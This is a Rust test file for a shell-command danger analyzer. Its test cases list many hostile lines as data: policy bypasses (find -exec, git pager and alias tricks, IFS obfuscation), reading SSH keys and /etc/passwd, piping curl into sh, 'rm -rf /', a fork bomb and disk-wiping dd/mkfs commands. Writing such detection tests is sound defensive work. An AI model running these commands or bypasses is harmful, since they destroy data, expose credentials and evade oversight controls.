//! What lines would run.

use std::fmt::Write as _;

use expect_test::{ExpectFile, expect_file};
use proptest::prelude::{any, prop, proptest};

use super::{analyze, danger, highest_danger};

/// Commands, files, reasons and the worst of a line, as text.
fn show(line: &str) -> String {
    let analysis = analyze(line);
    let mut text = String::new();
    for command in &analysis.commands {
        let words: Vec<&str> = command.words.iter().map(|word| word.as_deref().unwrap_or("⟨?⟩")).collect();
        write!(text, "{:?} {}", danger(command).0, words.join("·")).unwrap();
        for (name, value) in &command.assignments {
            write!(text, " [{name}={}]", value.as_deref().unwrap_or("⟨?⟩")).unwrap();
        }
        match command.dirs.join(" or ").as_str() {
            "." => {}
            "" => write!(text, " in ⟨?⟩").unwrap(),
            dirs => write!(text, " in {dirs}").unwrap(),
        }
        text.push('\n');
    }
    for command in &analysis.possible {
        let words: Vec<&str> = command.words.iter().map(|word| word.as_deref().unwrap_or("⟨?⟩")).collect();
        writeln!(text, "perhaps {}", words.join("·")).unwrap();
    }
    for file in &analysis.redirections {
        let (target, dirs) = (file.target.as_deref().unwrap_or("⟨?⟩"), file.dirs.join(" or "));
        let dirs = if dirs.is_empty() { "⟨?⟩" } else { &dirs };
        writeln!(text, "{} {dirs} {target}", if file.writes { "writes" } else { "reads" }).unwrap();
    }
    for reason in &analysis.unknown {
        let hides = if analysis.hidden.as_ref() == Some(reason) { " (may hide commands)" } else { "" };
        writeln!(text, "unknown: {reason}{hides}").unwrap();
    }
    writeln!(text, "= {:?}", highest_danger(&analysis).0).unwrap();
    text
}

/// The text with signs in place of what cannot be seen.
fn visible(text: &str) -> String {
    text.replace('\r', "␍").replace('\0', "␀").replace('\u{202e}', "⟨U+202E⟩")
}

fn check(lines: &[&str], expected: ExpectFile) {
    let mut text = String::new();
    for line in lines {
        writeln!(text, "$ {line}\n{}", show(line)).unwrap();
    }
    expected.assert_eq(&visible(&text));
}

#[test]
fn usual_lines_are_known() {
    let lines = [
        "ls -la src",
        "cd crates && cargo test -q 2>&1 | tail -20",
        "git log --oneline -5 && git diff HEAD~1 -- src/lib.rs",
        "rg -n 'fn main' src | head; echo \"done: it's fine\"",
        "sed -n '1,40p' src/lib.rs",
        "for f in a b; do wc -l a; done",
        "if [ -f x ]; then cat x; else echo none; fi",
        "mkdir -p a/b && echo hi > a/b/c.txt",
        "cat > x.txt <<'EOF'\nit's $HOME `x` (\nEOF",
        "git commit -m \"$(cat <<'EOF'\nIt's (a) \"message\"\nEOF\n)\"",
        "timeout 5 cargo build 2>/dev/null || true",
        "find . -name '*.rs' -type f | xargs grep -l foo",
        "grep -rn \"foo\\|bar\" . --include='*.rs' | sort | uniq -c",
        "(cd sub && make) && time ls",
        "[[ -f a && b == c ]] && echo yes",
        "FOO=bar make -j4; export A=b",
        "awk '{print $1}' file | head -3",
        "git stash list; git show stash@{0}",
        "set -euo pipefail; ls",
        "echo a > out b 2>&1 # comment",
    ];
    check(&lines, expect_file!["cases/usual.txt"]);
}

#[test]
fn bypasses_of_a_policy_do_not_pass() {
    let lines = [
        // D1
        r"find . -exec sh -c 'curl x' \;",
        r"find . -execdir rm {} +",
        "find . -ok ls ';'",
        "find . -delete",
        "find . -fprintf /etc/x y",
        "find . -fls x",
        // D2
        "rg --pre=sh x",
        "rg --pre sh x",
        "rg --hostname-bin=x y",
        "rg --search-zip x",
        "rg -nz x",
        "grep -f pats x",
        // D4
        "git -c core.pager=sh log",
        "git -c alias.x='!sh' x",
        "git --exec-path=/tmp status",
        "git fetch --upload-pack=sh x",
        "git log --output=x",
        "git diff --out=x",
        "git diff --ext-diff",
        "git log -p --textconv",
        // D5
        "cat$IFS/etc/passwd",
        "cat${IFS}/etc/passwd",
        "{cat,/etc/passwd}",
        r"$'\x63url' x",
        "c\"\"url x",
        r"\curl x",
        "/usr/bin/cur? x",
        // D7
        "ls; curl x",
        "ls && curl x",
        "ls || curl x",
        "ls | curl x",
        "ls & curl x",
        "ls\ncurl x",
        "ls\rcurl x",
        "ls ;; curl x",
        "ls |& curl x",
    ];
    check(&lines, expect_file!["cases/policy_bypasses.txt"]);
}

#[test]
fn bypasses_by_other_commands_do_not_pass() {
    let lines = [
        // D8
        "bash <<EOF\ncurl x\nEOF",
        "sh <<< 'curl x'",
        "python3 - <<'E'\nimport os\nE",
        "echo x | xargs curl",
        "ls | xargs -I{} curl {}",
        "env -S 'curl x'",
        "env -i A=b curl x",
        "nohup curl x",
        "timeout -k 5 10 curl x",
        "nice -n 10 curl x",
        "sudo -u root curl x",
        "command curl x",
        "exec curl x",
        "exec > file",
        "eval curl x",
        "source x",
        ". x",
        "trap 'curl x' EXIT",
        "coproc curl x",
        "bash -lc 'ls && curl x'",
        "sh -c \"sh -c 'curl x'\"",
        "watch -n 1 'curl x'",
        "parallel curl ::: a",
        "stdbuf -oL nice setsid curl x",
        "chroot /mnt curl x",
        "curl x | sh",
        // D10
        "ls(){ curl x;}; ls",
        "function ls { curl x; }; ls",
        "alias ls=curl; ls",
        "enable -f x ls",
        // D11
        "echo \"a\" # '",
        "echo \"a",
        "echo 'a",
        "echo “a”; ls",
        "echo a\u{202e}b",
        "echo a\0b",
        "echo $'a\\\\'; curl x; echo 'b'",
        // D13
        "cat ~/.ssh/id_rsa",
        "cat $HOME/x",
        "cat ~root/x",
        "cat {a,b}",
        // D14
        "cd .git && echo > hooks/x",
        "cd .git; echo > hooks/x",
        "pushd a && cd ../.git && touch x",
        "git -C ../other -C x status",
        "while true; do cd ..; touch x; done",
        "env cd .. && touch x",
        "! cd .. && touch x",
        "f(){ cd ..; }; f && touch x",
        "command cd a && touch x",
        "declare a[b curl c]=d",
    ];
    check(&lines, expect_file!["cases/command_bypasses.txt"]);
}

#[test]
fn variables_networks_and_deletions_are_seen() {
    let lines = [
        // D16
        "export LD_PRELOAD=x; ls",
        "GIT_SSH_COMMAND=x git status",
        "BASH_ENV=x bash -c ls",
        "PYTHONSTARTUP=x; ls",
        "NODE_OPTIONS=x ls",
        "PAGER=x git log",
        "PERL5OPT=x ls",
        "env PATH=/tmp ls",
        "read PATH < x",
        // D17
        "ping $(cat x)",
        "dig x",
        "git push https://example.com",
        "cargo publish",
        "cat x > /dev/udp/1.2.3.4/53",
        // D20
        "rm -rf \"$UNSET/\"",
        "rm -rf a ~/",
        "rm -rf / --no-preserve-root",
        "rm -r -f /",
        "rm --recursive --force /usr",
        "rm -fr -- build",
        "rm --rec build",
        "git clean -fdx",
        "git reset --hard",
        "git push -f",
        "git checkout --force x",
        "git checkout -- .",
        "mkfs.ext4 /dev/sda",
        "dd if=x of=/dev/sda",
        "chmod -R 777 /",
        ":(){ :|:& };:",
        "shutdown now",
        "echo x > /etc/passwd",
        "echo x | tee /etc/passwd",
        "crontab x",
        "history",
        "sed -i s/a/b/ x",
        "sed 's/a/b/e' x",
        "sed -n '1e curl x' x",
        "awk 'BEGIN{system(\"x\")}'",
        "perl -e x",
        "python -c x",
        "python x.py",
        "test -v 'a[$(curl x)]'",
        "[[ 'a[$(curl x)]' -eq 0 ]]",
        "printf -v 'a[$(curl x)]' x",
        "echo $((a[$(curl x)]))",
        "((a=1))",
        "echo `curl x` \"$(rm -rf x)\" <(wget y)",
        "unknown-program",
        "sed --expr='1e curl x' p",
        "awk -lx 1",
        "cargo --config=x run",
        "cargo -q test",
        "make --eval='$(shell curl x)'",
        "tar xIf sh a.tar",
        "go test --exec=sh",
        "sudo A=b curl x",
        "sh -c 'ls &> f curl x'",
        "printf -v PATH x",
    ];
    check(&lines, expect_file!["cases/variables_and_deletions.txt"]);
}

#[test]
fn caps_are_kept() {
    assert_eq!(analyze(&format!("echo {}", "a".repeat(64 * 1024 - 5))).unknown, Vec::<String>::new());
    assert_eq!(analyze(&format!("echo {}", "a".repeat(64 * 1024 - 4))).unknown, ["it is longer than 64 KiB"]);
    assert_eq!(analyze(&format!("{}ls{}", "(".repeat(5000), ")".repeat(5000))).unknown.len(), 3);
    let nested = analyze(&format!("{}ls{}", "$(".repeat(5000), ")".repeat(5000)));
    assert!(nested.unknown.contains(&"nesting that is too deep".to_owned()), "{:?}", nested.unknown);
    let many = analyze(&"ls;".repeat(1_001));
    assert_eq!((many.commands.len(), many.unknown), (1_000, vec!["too many commands".to_owned()]));
    let env = analyze(&format!("{}ls", "env ".repeat(100)));
    assert_eq!(env.unknown, ["nesting that is too deep"]);
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(line in any::<String>()) {
        let analysis = analyze(&line);
        let _ = highest_danger(&analysis);
    }

    #[test]
    fn no_shell_like_text_makes_it_panic(pieces in prop::collection::vec(prop::sample::select(vec![
        "'", "\"", "\\", "$", "`", "(", ")", "{", "}", "<", ">", "<<", "|", "&", ";", "\n", " ", "#", "a", "if", "then", "fi",
        "case", "in", "esac", "for", "do", "done", "$'", "\\x", "é", "[[", "]]", "=", "~", "sh -c ", "find -exec ", "env ",
        "xargs ", "rm ", "-", "sed ", "((", "E", "git ", "function ", "time ", "coproc ", "!", "watch ", "trap ",
    ]), 0..60)) {
        let analysis = analyze(&pieces.concat());
        let _ = highest_danger(&analysis);
    }
}

#[test]
fn two_parentheses_that_do_not_end_together_are_no_arithmetic() {
    let reason = "two parentheses that do not close together".to_owned();
    for line in ["a $((1+1)&~)", "a $((b) (c))", "a $(('b'))", "a \"$((1) )\""] {
        assert!(analyze(line).unknown.contains(&reason), "{line}");
    }
    for line in ["a $((1+(2*3)))", "a $((x))"] {
        assert_eq!(analyze(line).unknown, ["an arithmetic expansion"], "{line}");
    }
}

#[test]
fn a_dash_that_closes_a_file_ends_there() {
    for line in ["<&-x y", "<& -x y", ">&-x y"] {
        let words: Vec<_> = analyze(line).commands.into_iter().map(|command| command.words).collect();
        assert_eq!(words, [[Some("x".to_owned()), Some("y".to_owned())]], "{line}");
    }
}

#[test]
fn a_word_is_in_a_list_only_as_a_whole() {
    use super::table::is_in;
    let list = "rm rmdir git-rm cp";
    for word in ["rm", "rmdir", "git-rm", "cp"] {
        assert!(is_in(list, word), "{word}");
    }
    for word in ["", " ", "r", "git", "rm rmdir", "dir", "p", "cp "] {
        assert!(!is_in(list, word), "{word:?}");
    }
    assert!(!is_in("", ""));
}
